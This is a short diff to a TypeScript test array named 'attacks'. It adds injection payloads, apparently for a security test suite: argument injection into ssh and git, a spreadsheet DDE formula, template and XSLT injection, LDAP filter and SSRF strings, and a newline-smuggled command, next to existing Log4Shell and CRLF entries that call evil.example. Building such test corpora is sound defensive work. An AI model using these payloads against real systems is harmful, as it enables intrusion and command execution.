@@ -66,6 +66,18 @@ const attacks = [
   'while(true);function(){} console.log(1)',
   '${${lower:j}ndi:ldap://evil.example/a}',
   'en\r\nSet-Cookie: a=b',
+  'this.password.length==8',
+  '-oProxyCommand=id',
+  '--upload-pack=id',
+  "=cmd|' /C calc'!A0",
+  '$((1+1))',
+  '[1].find(alert)',
+  '<xsl:include href="http://evil.example/x.xsl"/>',
+  '{{config}}',
+  "{{ 'id'|system }}",
+  '(objectClass=*)',
+  'http://redis:6379/',
+  '10.0.0.1\nid',
   '<!--#exec cmd="id" -->',
 ] as const
 
